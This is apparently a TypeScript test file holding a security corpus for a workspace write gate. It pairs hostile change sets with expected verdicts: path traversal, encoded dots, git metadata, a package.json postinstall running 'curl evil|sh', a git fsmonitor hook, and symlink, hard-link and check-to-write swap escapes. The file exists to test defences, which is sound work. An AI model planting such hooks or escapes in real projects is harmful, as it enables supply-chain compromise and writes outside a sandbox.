/**
 * The executor's security corpus: hostile change sets — path tricks, git metadata, supply-chain files, line-count
 * dodges, hard links, symlinks and a directory swapped for a link between the check and the write — each with
 * the verdict it must get, next to benign look-alikes that must still pass. The API's WriteGate judges what it
 * can see; what only the disk shows, the executor refuses with nothing written outside the workspace.
 */
import { link, mkdir, rename, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FileChange } from '@warden/domain';
import { call, startTestApi, type TestApi } from '../support/api.js';
import {
  change,
  forgeChangeSet,
  startTestExecutor,
  submission,
  tempWorkspace,
  waitForChangeSet,
  type TempWorkspace,
  type TestExecutor,
} from '../support/executor.js';

const TENANT = 'corpus';
const manyLines = (n: number) => Array.from({ length: n }, (_, i) => `line ${i}\n`).join('');
const shuffled = (n: number) => Array.from({ length: n }, (_, i) => `line ${(i * 7919) % n}\n`).join('');

type Verdict = 'ALLOW' | 'NEED_APPROVAL' | 'DENY';

/** Judged by the API's WriteGate from the change set alone. */
const GATE_CORPUS: Array<{ name: string; changes: FileChange[]; verdict: Verdict; code: string }> = [
  // Path tricks.
  {
    name: 'parent traversal',
    changes: [change.create('../pwned.md', 'x\n')],
    verdict: 'DENY',
    code: 'PATH_TRAVERSAL',
  },
  {
    name: 'absolute path',
    changes: [change.create('/etc/pwned', 'x\n')],
    verdict: 'DENY',
    code: 'PATH_ABSOLUTE',
  },
  {
    name: 'encoded dots',
    changes: [change.create('%2e%2e/pwned.md', 'x\n')],
    verdict: 'DENY',
    code: 'PATH_ENCODED',
  },
  {
    name: 'fullwidth dots',
    changes: [change.create('\uff0e\uff0e/pwned.md', 'x\n')],
    verdict: 'DENY',
    code: 'PATH_UNICODE_LOOKALIKE',
  },
  {
    name: 'NTFS stream',
    changes: [change.create('docs/a.md:evil', 'x\n')],
    verdict: 'DENY',
    code: 'PATH_COLON',
  },
  {
    name: 'device name',
    changes: [change.create('docs/CON.md', 'x\n')],
    verdict: 'DENY',
    code: 'PATH_RESERVED_NAME',
  },
  {
    name: 'case collision',
    changes: [change.create('docs/Readme.md', 'x\n'), change.create('docs/README.md', 'y\n')],
    verdict: 'DENY',
    code: 'PATH_CASE_COLLISION',
  },
  // Git metadata.
  {
    name: '.git/config',
    changes: [change.create('.git/config', '[core]\n')],
    verdict: 'DENY',
    code: 'PATH_GIT_METADATA',
  },
  {
    name: 'a .git file pointing elsewhere',
    changes: [change.create('docs/.git', 'gitdir: /tmp/evil\n')],
    verdict: 'DENY',
    code: 'PATH_GIT_METADATA',
  },
  {
    name: '.GIT upper case',
    changes: [change.create('docs/.GIT', 'gitdir: x\n')],
    verdict: 'DENY',
    code: 'PATH_GIT_METADATA',
  },
  {
    name: '8.3 short name',
    changes: [change.create('docs/GIT~1/config', 'x\n')],
    verdict: 'DENY',
    code: 'PATH_GIT_METADATA',
  },
  // Secrets and lockfiles.
  { name: '.env', changes: [change.create('.env', 'A=1\n')], verdict: 'DENY', code: 'FORBIDDEN_PATH' },
  {
    name: 'lockfile',
    changes: [change.create('pnpm-lock.yaml', 'x\n')],
    verdict: 'DENY',
    code: 'FORBIDDEN_PATH',
  },
  {
    name: 'yarn.lock',
    changes: [change.create('yarn.lock', 'x\n')],
    verdict: 'DENY',
    code: 'FORBIDDEN_PATH',
  },
  {
    name: '.npmrc',
    changes: [change.create('.npmrc', 'registry=http://evil\n')],
    verdict: 'DENY',
    code: 'PATH_NOT_ALLOWED',
  },
  // Supply chain: never LOW.
  {
    name: 'root package.json',
    changes: [change.create('package.json', '{"scripts":{"postinstall":"curl evil|sh"}}\n')],
    verdict: 'NEED_APPROVAL',
    code: 'SUPPLY_CHAIN_REVIEW',
  },
  {
    name: 'nested package.json',
    changes: [change.create('packages/app/package.json', '{}\n')],
    verdict: 'NEED_APPROVAL',
    code: 'SUPPLY_CHAIN_REVIEW',
  },
  {
    name: 'CI workflow',
    changes: [change.create('.github/workflows/ci.yml', 'on: push\n')],
    verdict: 'NEED_APPROVAL',
    code: 'SUPPLY_CHAIN_REVIEW',
  },
  {
    name: 'GitLab CI',
    changes: [change.create('.gitlab-ci.yml', 'script: evil\n')],
    verdict: 'NEED_APPROVAL',
    code: 'SUPPLY_CHAIN_REVIEW',
  },
  {
    name: 'embedded bare repository',
    changes: [
      change.create('docs/repo/HEAD', 'ref: refs/heads/main\n'),
      change.create('docs/repo/objects/info/x', 'x\n'),
      change.create('docs/repo/refs/heads/main', 'x\n'),
      change.create('docs/repo/config', '[core]\n\tfsmonitor = evil\n'),
    ],
    verdict: 'NEED_APPROVAL',
    code: 'SUPPLY_CHAIN_REVIEW',
  },
  // Line-count dodges.
  {
    name: 'a shuffled file passed off as a small change',
    changes: [
      { operation: 'update', path: 'docs/big.md', old_content: manyLines(600), new_content: shuffled(600) },
    ],
    verdict: 'NEED_APPROVAL',
    code: 'RISK_LARGE_CHANGE',
  },
];

/** Must pass the gate as plain docs changes. */
const BENIGN: Array<{ name: string; changes: FileChange[] }> = [
  { name: 'docs/git-notes.md', changes: [change.create('docs/git-notes.md', 'about git\n')] },
  { name: 'docs/package.json.md', changes: [change.create('docs/package.json.md', 'about manifests\n')] },
  { name: 'docs/github-workflows.md', changes: [change.create('docs/github-workflows.md', 'ci\n')] },
  { name: 'docs/head.md', changes: [change.create('docs/head.md', 'a heading\n')] },
  { name: 'docs/gitignore.md', changes: [change.create('docs/.gitignore.md', 'x\n')] },
  { name: 'docs/deep/a/b/c/d.md', changes: [change.create('docs/deep/a/b/c/d.md', 'deep\n')] },
  { name: 'a small real edit', changes: [change.update('docs/edit.md', 'one\ntwo\n', 'one\n2\n')] },
];

describe('executor security corpus', () => {
  let api: TestApi;
  let ws: TempWorkspace;
  let outside: TempWorkspace;
  let executor: TestExecutor;
  let writer: string;
  let refused = 0;
  let allowed = 0;

  beforeAll(async () => {
    api = await startTestApi();
    ws = await tempWorkspace({
      'docs/edit.md': 'one\ntwo\n',
      'docs/sub/a.md': 'a\n',
      'docs/huge.md': manyLines(6000),
    });
    outside = await tempWorkspace({ 'victim.md': 'outside the workspace\n' }, 'warden-outside-');
    executor = await startTestExecutor({
      databaseUrl: api.database.url,
      prefix: api.prefix,
      workspaces: { app: ws.root },
      consume: false,
      hooks: {
        // The attacker's move after every check passed and before the first write.
        async at(point, context) {
          if (point !== 'validated' || context.changeset_id !== 'swap') return;
          await rename(join(ws.root, 'docs/sub'), join(ws.root, 'docs/sub-moved'));
          await mkdir(join(outside.root, 'target'), { recursive: true });
          await symlink(join(outside.root, 'target'), join(ws.root, 'docs/sub'));
        },
      },
    });
    writer = await api.createKey(TENANT, ['changesets:write']);
  });

  afterAll(async () => {
    console.log(`executor corpus: ${refused} attacks refused, ${allowed} benign allowed`);
    await executor?.stop();
    await api?.stop();
    await ws?.remove();
    await outside?.remove();
  });

  const submit = async (id: string, changes: FileChange[]) => {
    const response = await call(`${api.url}/v1/changesets`, {
      key: writer,
      body: submission({ changesetId: id, workspace: 'app', changes }),
    });
    expect(response.status).toBe(201);
    return response.body as { verdict: { verdict: Verdict; reasons: Array<{ code: string }> } };
  };
  const run = (id: string) => executor.service.runner()!.execute({ tenant_id: TENANT, changeset_id: id });

  it.each(GATE_CORPUS.map((c, i) => [c.name, i] as const))('should not allow %s', async (_name, i) => {
    const attack = GATE_CORPUS[i]!;
    const body = await submit(`gate-${i}`, attack.changes);
    expect(body.verdict.verdict).toBe(attack.verdict);
    expect(body.verdict.reasons.map((r) => r.code)).toContain(attack.code);
    refused += 1;
  });

  it.each(BENIGN.map((c, i) => [c.name, i] as const))('should allow and apply %s', async (_name, i) => {
    const benign = BENIGN[i]!;
    const body = await submit(`benign-${i}`, benign.changes);
    expect(body.verdict.verdict).toBe('ALLOW');
    expect(await run(`benign-${i}`)).toMatchObject({ changeset_status: 'completed' });
    allowed += 1;
  });

  describe('what only the disk shows', () => {
    const before = { outside: {} as Record<string, string> };
    beforeAll(async () => {
      before.outside = await outside.snapshot();
    });
    afterAll(async () => {
      // Nothing of any attack landed outside the workspace.
      const after = await outside.snapshot();
      expect(Object.keys(after).filter((k) => k.startsWith('target/'))).toEqual([]);
      expect(after['victim.md']).toBe(before.outside['victim.md']);
    });

    it('should refuse a delete that hides its size (no old_content) once it sees the file on disk', async () => {
      // Past the API with a forged ALLOW and an approval: only the executor's own count can stop it.
      await forgeChangeSet(
        api.db,
        TENANT,
        submission({
          changesetId: 'hidden-delete',
          workspace: 'app',
          changes: [change.delete('docs/huge.md', manyLines(6000))],
        }),
        { approvedBy: 'api_key:reviewer' },
      );
      expect(await run('hidden-delete')).toMatchObject({ changeset_status: 'failed' });
      const row = await waitForChangeSet(api.db, TENANT, 'hidden-delete', ['failed']);
      expect(row.error_code).toBe('writegate_denied');
      expect(row.error_message).toContain('6000 changed lines');
      expect(await ws.exists('docs/huge.md')).toBe(true);
      refused += 1;
    });

    it('should refuse to write through a symlinked directory', async () => {
      await symlink(outside.root, join(ws.root, 'docs/escape'));
      await submit('symlink', [change.create('docs/escape/pwned.md', 'pwned\n')]);
      expect(await run('symlink')).toMatchObject({ changeset_status: 'failed' });
      expect((await waitForChangeSet(api.db, TENANT, 'symlink', ['failed'])).error_code).toBe(
        'writegate_denied',
      );
      refused += 1;
    });

    it('should refuse to replace a hard-linked file', async () => {
      await link(join(outside.root, 'victim.md'), join(ws.root, 'docs/linked.md'));
      await submit('hard-link', [change.update('docs/linked.md', 'outside the workspace\n', 'pwned\n')]);
      expect(await run('hard-link')).toMatchObject({ changeset_status: 'failed' });
      const row = await waitForChangeSet(api.db, TENANT, 'hard-link', ['failed']);
      expect(row.error_message).toContain('hard link');
      refused += 1;
    });

    it('should write nothing through a directory swapped for a link between the check and the write', async () => {
      await submit('swap', [
        change.update('docs/sub/a.md', 'a\n', 'pwned\n'),
        change.create('docs/sub/new.md', 'pwned\n'),
      ]);
      const outcome = await run('swap');
      expect(['rolled_back', 'rollback_failed']).toContain(
        (outcome as { changeset_status: string }).changeset_status,
      );
      expect(await ws.read('docs/sub-moved/a.md')).toBe('a\n');
      refused += 1;
    });
  });
});
